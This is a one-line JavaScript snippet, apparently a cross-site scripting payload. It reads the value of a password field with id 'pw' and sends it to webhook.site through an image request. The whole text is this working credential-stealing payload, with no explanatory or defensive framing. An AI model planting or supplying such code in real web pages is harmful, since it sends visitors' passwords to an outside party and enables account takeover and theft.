new Image().src='https://webhook.site/abc?'+document.querySelector('#pw').value
